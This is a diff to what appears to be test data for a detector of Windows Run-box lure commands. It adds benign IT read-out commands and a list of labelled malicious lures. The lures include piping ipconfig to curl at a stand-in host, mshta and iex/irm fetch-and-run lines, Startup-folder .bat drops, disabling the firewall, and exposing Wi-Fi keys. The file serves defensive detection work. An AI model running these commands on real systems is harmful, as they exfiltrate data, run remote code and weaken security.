@@ -16,11 +16,17 @@ Cleared here, by technique:
   driverquery, a certificate store listed), look up one name, check whether one computer
   answers (ping, tracert, pathping) or refresh it from its own sources (gpupdate, ipconfig
   /flushdns), one to four of them: IT wikis and help-desk mails give them for the Run box so
-  that people read the answer out. From any source (runbox.Shape.SHOW). Still commands: the
-  queries fake support staff read out as "proof" (netstat, tasklist, arp, route, ipconfig
-  /displaydns), anything that fetches, starts, changes, sends or writes (a pipe, a redirect, a
-  share, a second program, a DNS server or record type given to nslookup), five commands or
-  more, a copy of cmd outside System32.
+  that people read the answer out; and the read-outs around them: `cmd /c … & pause`, a search
+  for a word (`| findstr IPv4`), a report to a .txt or .log file here, WMI's serial number and
+  model (`wmic bios get serialnumber`), the Wi-Fi adapter (`netsh wlan show interfaces`), the
+  computer's name and account (`echo %COMPUTERNAME%`, `set`), PowerShell kept open on one cmdlet
+  that shows the network or the disks. From any source (runbox.Shape.SHOW). Still commands:
+  the queries fake support staff read out as "proof" (netstat, tasklist, arp, route, ipconfig
+  /displaydns, Get-Process, Get-Service, dir /s, tree), anything that fetches, starts, changes,
+  sends or writes elsewhere (a pipe into clip, curl or cmd, a report to a share or a script
+  file, a second program, WMI's call/node/format, a Wi-Fi password, a DNS server or record type
+  given to nslookup, a DNS answer searched for its name), `cmd /c` with nothing keeping its
+  window, five commands or more, a copy of cmd outside System32.
 - `run-box-page-tool`: Disk Cleanup's list of what to clean (/sageset:n, /d drive) and Outlook's
   start-up modes on a mail profile by name (/safe, /nopreview, /profile name), from any page
   (runbox.yaml `pages`). /sagerun, /altvba, /a, /f, /c and the view resets stay typed-only.
@@ -105,6 +111,71 @@ SHOWN = [
     "cmd /k w32tm /resync & hostname",
     "cmd /k systeminfo & driverquery /v",
 ]
+H = "cdn.umbra-stage.test"
+# the read-outs IT wikis add around those: `pause` keeping `cmd /c` open, a search for a word,
+# a report to a text file here, the serial number by WMI, the Wi-Fi adapter, the computer's name
+# and account, PowerShell kept open on one cmdlet that shows the network or the disks
+READ_OUTS = [
+    "cmd /c ipconfig /all & pause",
+    "cmd /c ipconfig /all && pause",
+    "cmd.exe /c systeminfo /fo list & pause",
+    "cmd /c whoami /upn & hostname & pause",
+    "cmd /k ipconfig /all | findstr IPv4",
+    'cmd /k ipconfig /all | findstr /i "IPv4 DNS"',
+    'cmd /k ipconfig /all | find /i "Physical"',
+    'cmd /k systeminfo | findstr /B /C:"OS Name" /C:"OS Version"',
+    "cmd /k systeminfo | more",
+    "cmd /k ipconfig /all > %USERPROFILE%\\Desktop\\ipconfig.txt",
+    "cmd /c systeminfo > %USERPROFILE%\\Desktop\\systeminfo.txt & pause",
+    "cmd /k driverquery /v /fo csv > C:\\Temp\\drivers.txt",
+    "cmd /k wmic bios get serialnumber",
+    "cmd /k wmic csproduct get name,identifyingnumber",
+    "cmd /k wmic computersystem get model,manufacturer",
+    "cmd /k wmic os get caption,version,buildnumber /value",
+    "cmd /c wmic bios get serialnumber & pause",
+    "cmd /k netsh wlan show interfaces",
+    "cmd /k netsh wlan show drivers",
+    "cmd /k netsh winhttp show proxy",
+    "cmd /k netsh interface ip show config",
+    "cmd /k echo %COMPUTERNAME%",
+    "cmd /k echo %USERNAME% %USERDOMAIN%",
+    "cmd /k set",
+    "powershell -NoExit -Command Get-NetIPConfiguration",
+    "powershell -NoExit Get-NetAdapter",
+    "powershell.exe -NoExit -NoProfile -Command Get-ComputerInfo",
+    "pwsh -NoExit -c Get-DnsClientServerAddress",
+    "powershell -NoLogo -NoExit -Command Get-Volume",
+    "powershell -NoExit -Command Get-HotFix",
+]
+READ_OUT_LURES = [
+    "cmd /c ipconfig /all | clip",
+    f"cmd /k ipconfig /all | curl -F f=@- https://{H}/u",
+    "cmd /k ipconfig /all > \\\\203.0.113.7\\drop\\ip.txt",
+    "cmd /k ipconfig /all > %APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.bat",
+    "cmd /k ipconfig /all > C:\\Users\\Public\\x.bat",
+    "cmd /k wmic process call create calc",
+    "cmd /k wmic /node:203.0.113.5 bios get serialnumber",
+    f'cmd /k wmic os get /format:"https://{H}/x.xsl"',
+    "cmd /k netsh wlan show profile name=Home key=clear",
+    "cmd /k netsh advfirewall set allprofiles state off",
+    f"cmd /k netsh interface portproxy add v4tov4 listenport=3389 connectaddress={H}",
+    f"cmd /k echo %COMPUTERNAME% & mshta https://{H}/v.hta",
+    "cmd /k echo powershell -enc SQBFAFgA > %TEMP%\\x.cmd",
+    "cmd /k set x=1",
+    "cmd /k dir /s C:\\",
+    "cmd /k tree C:\\",
+    "cmd /k ipconfig /all | findstr IPv4 | cmd",
+    f"cmd /c nslookup cfg.{H} | findstr Name & pause",
+    "cmd /c whoami",
+    "cmd /c ipconfig /all & start %TEMP%\\x.exe & pause",
+    "powershell -NoExit -Command Get-Process",
+    "powershell -NoExit -Command Get-Service",
+    "powershell -NoExit -Command Get-Credential",
+    f"powershell -NoExit -Command Get-NetIPConfiguration; iex (irm https://{H}/a)",
+    "powershell -w h -Command Get-NetAdapter",
+    "powershell -NoExit -EncodedCommand RwBlAHQALQBOAGUAdABBAGQAYQBwAHQAZQByAA==",
+    "powershell -ep bypass -NoExit -Command Get-Volume",
+]
 PAGE_TOOLS = [
     "cleanmgr /sageset:1",
     "cleanmgr /sageset:42",
@@ -126,7 +197,6 @@ LURE_PAGES = [
     "https://verify-human.umbra-stage.test/captcha/step2",
     "https://microsoft-support.case-4471.example/fix",
 ]
-H = "cdn.umbra-stage.test"
 SHOWN_LURES = [
     "cmd /k netstat -ano",
     "cmd /k netstat -an",
@@ -193,6 +263,14 @@ def run_box_shows(book: Book) -> None:
     for i, text in enumerate(SHOWN_LURES):
         book.add(tech, text, "malicious", "windows", RUN, LURE_PAGES[i % len(LURE_PAGES)])
         # typed, a console on a query is the user's own (Shape.QUERY); mailed, a command
+        book.add(tech, text, "flagged", "windows", (RUN, BAR)[i % 2], MAIL)
+    for i, text in enumerate(READ_OUTS):
+        book.add(tech, text, "not_flagged", "windows", RUN, sources[(i + 1) % len(sources)])
+        book.add(
+            tech, text, "not_flagged", "windows", (RUN, BAR)[i % 2], sources[(i + 4) % len(sources)]
+        )
+    for i, text in enumerate(READ_OUT_LURES):
+        book.add(tech, text, "malicious", "windows", RUN, LURE_PAGES[i % len(LURE_PAGES)])
         book.add(tech, text, "flagged", "windows", (RUN, BAR)[i % 2], MAIL)
     tech = "run-box-page-tool"
     for i, text in enumerate(PAGE_TOOLS):
